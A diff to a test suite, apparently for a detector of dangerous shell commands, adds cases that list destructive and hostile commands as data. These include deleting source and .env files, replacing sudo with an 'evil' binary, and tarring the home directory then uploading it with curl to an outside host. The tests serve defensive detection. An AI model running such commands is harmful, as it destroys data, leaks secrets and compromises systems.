@@ -181,6 +181,25 @@ describe('other losses inform, and can be silenced', () => {
   })
 })
 
+test.each([
+  ['rm -rf src', 1],
+  ['rm -rf packages/a/src', 1],
+  ['rm -rf dist', 0],
+  ['rm -rf src/generated', 0],
+  ['rm .env', 1],
+  ['rm .env.example', 0],
+  ['chmod -R go-rwx ~/.ssh', 0],
+  ['chmod -R 700 ~/.ssh', 0],
+  ['chmod -R go-rwx /etc', 1],
+  ['chmod -R 755 ~/.ssh', 1],
+  ['cp evil /usr/local/bin/sudo', 1],
+  ['cp tool /usr/local/bin/tool', 0],
+  ['/etc/init.d/mysql stop', 1],
+  ['/etc/init.d/mysql status', 0],
+])('%s: %i', (line, count) => {
+  expect(dangers(line)).toHaveLength(count)
+})
+
 test('deleting the record of commands', () => {
   const argv = ['rm', '~/.bash_history']
   expect(dangersOf({ argv, program: 'rm', ...PLACE })).toMatchObject([{ category: 'system', severity: 'medium' }])
@@ -322,6 +341,7 @@ describe('what only several commands make', () => {
     expect(across({ ...command('vault read x'), writes: ['e'] }, 'nc h 1 e')).toHaveLength(1)
     expect(across('git add .env', 'git push')).toHaveLength(1)
     expect(across('tar czf s.tgz src', 'curl -T s.tgz https://x')).toEqual([])
+    expect(across('tar czf s.tgz ~', 'curl -T s.tgz https://x')).toHaveLength(1)
   })
 
   test('functions that start themselves', () => {
@@ -457,6 +477,10 @@ describe('text, help and dry runs are no danger', () => {
     'kubectl delete pod x --dry-run=client',
     'aws s3 rm s3://b/x --dryrun',
     'aws ec2 describe-instances',
+    'docker system prune -h',
+    'git filter-repo -h',
+    'kubectl delete ns prod -h',
+    'vercel ls --prod',
     'docker stop web',
     'npm publish --dry-run',
     'npm run shutdown-test',
